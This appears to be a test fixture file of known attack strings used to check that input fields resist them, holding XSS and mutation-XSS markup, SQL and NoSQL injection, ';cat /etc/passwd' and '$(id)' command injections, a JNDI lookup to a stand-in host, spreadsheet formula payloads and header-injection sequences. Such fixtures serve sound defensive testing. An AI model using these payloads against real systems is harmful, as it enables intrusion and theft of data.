/** Texts from known attacks. Each fits into every field. */

/** HTML that would run, or that becomes such HTML when it is parsed again. */
export const MARKUP = [
  ...['<script>alert(1)</script>', '<ScRiPt/src=//e.test>', '</script><script>alert(1)</script>', '<script'],
  ...['<img src=x onerror=alert(1)>', '<img/src="x"/onerror=alert(1)>', '<b onclick=alert(1)>b</b>'],
  ...['<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><a xlink:href="javascript:1">a'],
  ...['<math><mi xlink:href="javascript:alert(1)">m</mi></math>', '<iframe srcdoc="<script>alert(1)">'],
  ...['<a href="javascript:alert(1)">a</a>', '<a href=" &#14; javascript:alert(1)">a</a>'],
  ...['<a href="java\tscript:alert(1)">a</a>', '<a href="java&#10;script:alert(1)">a</a>'],
  ...['<a href="&#x6a;avascript&colon;alert(1)">a</a>', '<a href="\u0001javascript:alert(1)">a</a>'],
  ...['<a href="vbscript:x">a</a>', '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>'],
  ...['<img src="data:image/svg+xml,<svg onload=alert(1)>">', '<img srcset="javascript:alert(1) 1x">'],
  ...['<video poster="javascript:alert(1)"></video>', '<audio src="data:text/html,x" autoplay onplay=1>'],
  ...['<p style="background:url(javascript:alert(1))">p</p>', '<style>@import "//e.test";</style>'],
  '<form action="//e.test"><input name=password autofocus onfocus=alert(1)></form>',
  '<base href="//e.test">',
  ...['<meta http-equiv=refresh content="0;url=javascript:1">', '<link rel=stylesheet href="//e.test">'],
  ...['<object data="x.swf"></object><embed src="x">', '<details open ontoggle=alert(1)>d</details>'],
  ...['<a target=_blank href="http://e.test">a</a>', '<a id=config name=config>a</a>'],
  // Markup that parsers read differently.
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<p title="</p><script>alert(1)</script>">p</p>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ...['<!--><script>alert(1)</script>-->', '<!--<img src="--!><img src=x onerror=alert(1)//">', '<!-- x'],
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php system($_GET[0]) ?>',
  '<%= 7*7 %>',
  '<plaintext><script>',
  ...['<xmp><img src=x onerror=alert(1)></xmp>', '<title><img src=x onerror=alert(1)></title>'],
  ...['<textarea><img src=x onerror=alert(1)></textarea>', '<template><script>alert(1)</script></template>'],
  ...['<<b>script>alert(1)<</b>/script>', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '＜script＞alert(1)＜/script＞',
  '<script\u2028>alert(1)</script\u2029>',
  '\u0000<\u0000script>alert(1)',
];

/** Texts with a meaning in other languages than HTML. */
export const CODE = [
  "' or '1'='1",
  "'; drop table events; --",
  '") or 1=1 /*',
  '\\',
  "\\'; select 1; --",
  '%',
  '_',
  '*',
  '$1 :id ?',
  ...['"a" NEAR b* OR title:x', '(a+)+$', '[', '{{7*7}} #{7*7} <%= 7*7 %>', '%s%n%x', '../../etc/passwd'],
  '__proto__',
  'constructor',
  '{"$gt":""}',
  ';cat /etc/passwd',
  '`id`',
  '$(id)',
  // Written in two parts, so that the linter does not take it for a placeholder.
  `$\{jndi:ldap://e.test/a}`.replace('\\', ''),
];

/** Formulas of spreadsheets, which begin with these characters. */
export const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://e.test","x")',
  '+1-1',
  '-2+3',
  '@SUM(1)',
  "=cmd|' /C calc'!A0",
  '|x',
  ';=1',
  '"=1"',
];

/** Control sequences for terminals, logs and headers, and look-alikes. */
export const STEERING = [
  '\r\nX-Injected: 1',
  '\nX-Injected: 1',
  '\rX-Injected: 1',
  '\u0085X',
  '\u2028X\u2029',
  '嘍嘊X-Injected: 1',
  '\u001b]0;title\u0007\u001b[2J',
  '\u009b31m',
  '\u0000',
  '\u0008\u007f',
  '\u202egnp.exe',
  '\u2066a\u2069',
  ...['\ufeff', '\u200b\u00ad', 'a\u0301'.normalize('NFD'), '\ud800', '\ufdd0\uffff', '👩‍👩‍👧', 'ﬀﬁ', 'İı'],
];
